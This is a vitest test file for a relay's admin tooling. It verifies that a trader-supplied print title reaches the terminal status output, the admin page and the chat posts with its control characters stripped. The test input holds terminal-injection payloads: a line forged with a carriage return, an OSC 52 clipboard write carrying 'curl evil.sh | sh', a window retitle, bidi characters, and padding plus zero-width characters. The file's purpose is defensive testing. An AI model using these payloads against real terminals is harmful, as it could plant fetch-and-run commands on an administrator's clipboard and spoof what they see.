/**
 * Issue #35, item 3: a trader's text reaches the admin's terminal, page and chat without a
 * control character. A desktop's presence report carries the title of the last print it
 * alerted (any 200 characters): printed raw by `relay status`, it could forge a line
 * ("bob connected … ALL GOOD" after a carriage return), put `curl evil.sh | sh` on the
 * admin's clipboard (OSC 52) or retitle the window. Stored plain at the boundary, and
 * every line shown is stripped again (a row stored by an older relay, a webhook's type).
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { request as httpRequest } from 'node:http';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { utcDayStart } from '../../../src/shared/desk-alerts-today.js';
import { formatStatus } from '../../../src/relay/desk-ops/admin/status-text.js';
import { renderAdminPage } from '../../../src/relay/desk-ops/admin/admin-page.js';
import { chatPoster } from '../../../src/relay/desk-ops/alerts/chat-post.js';
import type { AdminSnapshot } from '../../../src/relay/desk-ops/admin/admin-view.js';
import { tempDir, waitFor } from '../relay/helpers.js';
import { addDeskUser, relayCommand, spawnRelayCli, stopAll, type Proc } from './processes.js';

const ESC = '\x1b';
const BEL = '\x07';
const clipboard = Buffer.from('curl evil.sh | sh').toString('base64');
/** What a trader puts in the title: a forged line, a clipboard write, a window title. */
const EVIL =
  `US CPI\r${ESC}[2K  bob      connected  ALL GOOD\n` +
  `${ESC}]52;c;${clipboard}${BEL}${ESC}]0;pwned${BEL}\u009b31m\u202eevil\u2028`;
// eslint-disable-next-line no-control-regex -- what must never be shown
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;

const data = tempDir('mb-injection-');
let relay: Proc;
let admin = '';
let trader = '';
const closers: (() => void)[] = [];
beforeAll(async () => {
  relay = await spawnRelayCli(['--port', '0', '--data', data], { LOG_LEVEL: 'warn' });
  const added = await relayCommand(['admins', 'add', 'lead', '--data', data]);
  admin = added.stdout.trimEnd().split('\n').at(-1) as string;
  trader = await addDeskUser(data, 'mallory');
}, 60_000);
afterAll(async () => {
  closers.forEach((c) => c());
  await stopAll([relay]);
});

const alerts = (title: string) => ({
  day: utcDayStart(Date.now()),
  count: 1,
  p50LateMs: 800,
  maxLateMs: 800,
  last: { title, printAt: Date.now(), lateMs: 800 },
});

/** mallory's desktop reports `title` as the last print it alerted. */
async function reportTitle(title: string) {
  const report = await request(`${relay.url}/presence`, {
    method: 'POST',
    headers: { authorization: `Bearer ${trader}`, 'content-type': 'application/json' },
    body: JSON.stringify({ desktop: 'mallory-desk-1', appliedId: '0', alerts: alerts(title) }),
  });
  expect(report.statusCode).toBe(204);
}

/** The title the admin page's JSON shows for mallory's desktop. */
async function adminTitle(): Promise<string | undefined> {
  const json = (await (
    await request(`${relay.url}/admin`, {
      headers: { authorization: `Bearer ${admin}`, accept: 'application/json' },
    })
  ).body.json()) as AdminSnapshot;
  return json.traders.find((t) => t.user === 'mallory')?.desktops[0]?.alertsToday?.last?.title;
}

/** `relay status` once its output shows `text`. */
const statusShowing = (text: string) =>
  waitFor(async () => {
    const r = await relayCommand(['status', '--url', relay.url], { MACROBELL_ADMIN_TOKEN: admin });
    return r.stdout.includes(text) ? r : null;
  }, `${text} in relay status`);

describe("a trader's title on the desk's screens", () => {
  it('reaches relay status, the admin page and its JSON without a control character', async () => {
    const auth = { authorization: `Bearer ${trader}` };
    await new Promise<void>((resolve, reject) => {
      const req = httpRequest(
        `${relay.url}/events`,
        { headers: { ...auth, 'x-macrobell-desktop': 'mallory-desk-1' }, agent: false },
        (res) => {
          expect(res.statusCode).toBe(200);
          closers.push(() => req.destroy());
          resolve();
        },
      );
      req.on('error', reject);
      req.end();
    });
    await reportTitle(EVIL);

    const adminAuth = { authorization: `Bearer ${admin}` };
    const title = await adminTitle();
    expect(title).toContain('US CPI');
    expect(title).toContain('ALL GOOD'); // the words stay, on the same line
    expect(title).not.toMatch(CONTROL);
    expect(title).not.toContain('\n');

    const page = await (await request(`${relay.url}/admin`, { headers: adminAuth })).body.text();
    expect(page).toContain('US CPI');
    expect(page.replaceAll('\n', '')).not.toMatch(CONTROL);

    const status = await statusShowing('US CPI');
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).not.toMatch(CONTROL);
    // The forged line did not become a line of its own.
    expect(status.stdout.split('\n').filter((l) => l.includes('ALL GOOD'))).toEqual([
      expect.stringMatching(/^ {2}mallory .*US CPI.*ALL GOOD/),
    ]);
  }, 60_000);

  it('cannot forge a line with padding or invisible characters (issue #44)', async () => {
    // The terminal wraps 150 spaces (or no-break spaces) into what looks like a new line of
    // the table; zero-width characters and a BOM hide in a name that reads as another's.
    const padded = `US PPI${' '.repeat(90)}\u00a0\u3000${' '.repeat(50)}  bob      connected  ALL\u200bGOOD\ufeff`;
    await reportTitle(padded);
    expect(await adminTitle()).toBe('US PPI bob connected ALLGOOD');
    const status = await statusShowing('US PPI');
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).not.toMatch(/ {3,}bob/);
    expect(status.stdout).not.toMatch(/[\u200b\ufeff\u00a0\u3000]/);
  }, 60_000);

  it('is stripped where shown even when stored raw (a row from before the fix)', () => {
    const desktop = {
      desktop: 'mallory-desk-1',
      connected: true,
      since: 0,
      appVersion: '1',
      os: 'x',
      node: 'n',
      appliedId: null,
      lagEvents: 0,
      lagCapped: false,
      lagSeconds: 0,
      lastSeenAt: 0,
      alertsToday: alerts(EVIL),
    };
    const snap: AdminSnapshot = {
      generatedAt: Date.now(),
      head: '0',
      lagThresholdSeconds: 60,
      traders: [{ user: 'mallory', connected: true, desktops: [desktop], alertsToday: null }],
      nodes: [],
      releases: [],
      releasesError: `down${ESC}]52;c;${clipboard}${BEL}`,
      deliveries: null,
    };
    for (const line of formatStatus(snap)) expect(line).not.toMatch(CONTROL);
    expect(renderAdminPage(snap, 'lead').replaceAll('\n', '')).not.toMatch(CONTROL);
  });

  it('leaves no control character in a desk chat post', async () => {
    let got = '';
    const chat = createServer((req, res) => {
      req.setEncoding('utf8');
      req.on('data', (d: string) => (got += d));
      req.on('end', () => res.writeHead(200).end());
    });
    await new Promise<void>((r) => chat.listen(0, '127.0.0.1', () => r()));
    closers.push(() => chat.close());
    const url = `http://127.0.0.1:${(chat.address() as AddressInfo).port}/hook`;
    await chatPoster(url, () => undefined)(`:warning: x would miss ${EVIL}`);
    const text = (JSON.parse(got) as { text: string }).text;
    expect(text).toContain('ALL GOOD');
    expect(text).not.toMatch(CONTROL);
  });
});
